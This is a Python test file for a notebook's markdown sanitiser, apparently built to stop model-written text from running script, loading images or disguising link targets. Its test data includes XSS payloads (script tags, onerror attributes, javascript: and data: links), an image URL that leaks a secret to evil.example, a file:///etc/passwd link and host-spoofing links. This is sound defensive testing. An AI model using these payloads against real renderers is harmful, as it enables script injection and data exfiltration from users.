"""What a model writes cannot run in the notebook."""

from __future__ import annotations

import re
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from aof_nb.markdown import finished, quoted, safe_markdown, to_html


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](javascript:alert(1))",
        '[x](http://a.b "><img src=x onerror=alert(1)>")',
        '![" onerror="alert(1)](http://a.b/c.png)',
        "<details ontoggle=alert(1) open>",
        "<style>*{display:none}</style>",
        "```<b onclick=1>\n</code></pre><script>\n```",
    ],
)
def test_markup_does_not_get_through(attack: str) -> None:
    html = to_html(attack)
    tags = re.findall(r"<\s*(\w+)([^>]*)", html)
    assert not {name for name, _ in tags} & {"script", "img", "style", "details", "b"}
    for _, attributes in tags:
        assert not re.search(r"\son\w+\s*=", re.sub(r'"[^"]*"', '""', attributes))
        assert "javascript:" not in attributes
        assert "data:" not in attributes


def test_images_are_links() -> None:
    html = to_html("![leak](https://evil.example/?secret=1)")
    assert "<img" not in html
    assert "[image: leak]" in html
    assert 'rel="noopener noreferrer"' in html


@given(st.lists(st.sampled_from("ab \n#-`*>1.|~<[]()!:"), max_size=60).map("".join))
def test_only_known_tags_come_out(text: str) -> None:
    html = to_html(text)
    known = {"p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code"}
    known |= {"em", "strong", "s", "a", "br", "hr", "div", "table", "thead", "tbody", "tr"}
    known |= {"th", "td"}
    assert set(re.findall(r"</?(\w+)", html)) <= known


def test_where_blocks_end() -> None:
    assert finished("# Title\n\nA paragraph that goes o") == 0
    assert finished("# Title\n\nA paragraph.\n") == 9
    fence = "Text.\n\n```python\nprint(1)\n\n\nprint(2)\n"
    assert finished(fence) == len("Text.\n\n")
    assert finished(fence + "```\n\nMore\n") == len(fence + "```\n\n")


@pytest.mark.parametrize(
    ("text", "harmless"),
    [
        ("1 < 2, x<y, <https://a.example>, **a**", "1 < 2, x<y, <https://a.example>, **a**"),
        ("`<name>` and <pod>", "`<name>` and &lt;pod>"),
        ("``a ` <b>`` <i>", "``a ` <b>`` &lt;i>"),
        ("`a\n<b>` <i>", "`a\n<b>` &lt;i>"),
        ("\\`<b>\\`", "\\`&lt;b>\\`"),
        ("![a](http://b.example)", "!\\[a\\](http://b.example)"),
        ("```\n<a>\n```\n<b>\n\n    <c>\n", "```\n<a>\n```\n&lt;b>\n\n    <c>\n"),
        ("| `<a>` | <b> |\n|---|---|\n", "| `<a>` | &lt;b> |\n|---|---|\n"),
        ("> `<a>`\n> <b>", "> `<a>`\n> &lt;b>"),
    ],
)
def test_only_what_is_markup_is_escaped(text: str, harmless: str) -> None:
    assert safe_markdown(text) == harmless


LINKS = [
    ("[a](https://b.example/x)", "[a](https://b.example/x) (b.example)"),
    ("[https://b.example](https://b.example/x)", "[https://b.example](https://b.example/x)"),
    ("[https://a.example](https://b.example)", "[https://a.example\\](https://b.example)"),
    ("[a.example](https://b.example)", "[a.example\\](https://b.example)"),
    ("[a](javascript:alert(1))", "[a\\](javascript:alert(1))"),
    ("[a](data:text/html,x)", "[a\\](data:text/html,x)"),
    ("[a](file:///etc/passwd)", "[a\\](file:///etc/passwd)"),
    ("<javascript:alert(1)>", "&lt;javascript:alert(1)>"),
    ("[a][b]\n\n[b]: https://c.example", "[a\\][b]\n\n[b\\]: https://c.example"),
    ("[a](https://good.example@evil.example)", "[a\\](https://good.example@evil.example)"),
    (
        "[a](https://good.example&commat;evil.example)",
        "\\[a\\](https://good.example&commat;evil.example)",
    ),
    ("[a](mailto:b@c.example)", "[a\\](mailto:b@c.example)"),
    ("[b@c.example](mailto:b@c.example)", "[b@c.example](mailto:b@c.example)"),
    ("`[a](javascript:1)` [b](#c)", "`[a](javascript:1)` [b](#c)"),
    ("safe\u202eexe.txt\u200b", "safe⟨U+202E⟩exe.txt⟨U+200B⟩"),
]


@pytest.mark.parametrize(("text", "harmless"), LINKS)
def test_links_say_where_they_lead(text: str, harmless: str) -> None:
    assert safe_markdown(text) == harmless


@given(
    st.text(alphabet="`~<>!a/?-[]() \n\\|&", max_size=40)
    | st.lists(
        st.sampled_from(
            [
                *(
                    "[",
                    "](",
                    ")",
                    "<",
                    ">",
                    "javascript:alert(1)",
                    "https://a.example",
                    "b.example",
                ),
                *(
                    "b.example",
                    "![",
                    "\n",
                    "`",
                    "```\n",
                    "[x]: ",
                    "]",
                    "\\",
                    "text ",
                    "| ",
                    "<img src=x>",
                ),
            ]
        ),
        max_size=12,
    ).map("".join)
)
def test_no_renderer_finds_anything_active(text: str) -> None:
    safe = safe_markdown(text)
    parser = MarkdownIt("commonmark", {"html": True}).enable("table")
    parser.validateLink = lambda url: True  # type: ignore[method-assign]
    for token in parser.parse(safe):
        for each in [token, *(token.children or ())]:
            assert each.type not in {"html_block", "html_inline", "image"}
            if each.type == "link_open":
                assert str(each.attrGet("href")).startswith(("http://", "https://", "#", "mailto:"))
    import mistune

    shown = str(mistune.create_markdown(escape=False, plugins=["table", "url"])(safe)).lower()
    assert not re.search(
        r"<(?:img|script|iframe|svg)|(?:href|src)=.?\s*(?:javascript|data):", shown
    )


@pytest.mark.parametrize("text", ["a *b* _c_ `d`", "# x", "1. y", "- z", "<b>", "$x$", "|", "\\*"])
def test_quoted_text_shows_as_it_is(text: str) -> None:
    for before in ("", "a "):
        html = (
            MarkdownIt("commonmark", {"html": True}).enable("table").render(before + quoted(text))
        )
        assert unescape(html).strip() == f"<p>{before}{text}</p>"


@given(st.text(alphabet="`~<>!a/?-[]() \n\\|&", max_size=40))
def test_no_markdown_keeps_html_or_images(text: str) -> None:
    parser = MarkdownIt("commonmark", {"html": True}).enable("table")
    kinds = set()
    for token in parser.parse(safe_markdown(text)):
        kinds |= {token.type, *(each.type for each in token.children or ())}
    assert not kinds & {"html_block", "html_inline", "image"}


@pytest.mark.parametrize(
    ("cut", "closed"),
    [
        ("Look:\n\n```sh\nkubectl get", "Look:\n\n```sh\nkubectl get\n```"),
        ("~~~~\na\n~~~\n", "~~~~\na\n~~~\n~~~~"),
        ("```", "```\n```"),
        ("````md\n```\nx\n```\n", "````md\n```\nx\n```\n````"),
        ("```\na\n```", "```\na\n```"),
        ("```\na\n`````  \n\n", "```\na\n`````  \n\n"),
        ("- ```\n  a", "- ```\n  a"),
        ("<b>\n\n```\n<b>", "&lt;b>\n\n```\n<b>\n```"),
    ],
)
def test_code_that_is_cut_is_closed(cut: str, closed: str) -> None:
    assert safe_markdown(cut) == closed


@given(st.lists(st.sampled_from(["```", "~~~", "````", "\n", "a", "- ", "> ", "  ", "`"])))
def test_what_follows_a_text_is_no_part_of_it(parts: list[str]) -> None:
    text = safe_markdown("".join(parts)).strip("\n")
    html = MarkdownIt("commonmark", {"html": True}).render(f"{text}\n\n<small>the end</small>\n")
    assert "<small>the end</small>" in html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (
            "[https://a.example](https://b.example)",
            "[https://a.example](https://b.example)",
        ),
        ("[`a.example`](https://b.example)", "[<code>a.example</code>](https://b.example)"),
        ("[a](https://good.example@evil.example)", "[a](https://good.example@evil.example)"),
        ("[a](https://good.example%40evil.example)", "[a](https://good.example%40evil.example)"),
    ],
)
def test_what_names_another_host_is_no_link_in_the_view(text: str, html: str) -> None:
    assert to_html(text) == f"<p>{html}</p>\n"


def test_links_in_the_view_say_where_they_lead() -> None:
    assert "</a> <small>(b.example)</small>" in to_html("[a](https://b.example)")
    assert "</a> <small>(b@c.example)</small>" in to_html("[a](mailto:b@c.example?subject=x)")
    assert to_html("[b@c.example](mailto:b@c.example)").endswith(">b@c.example</a></p>\n")
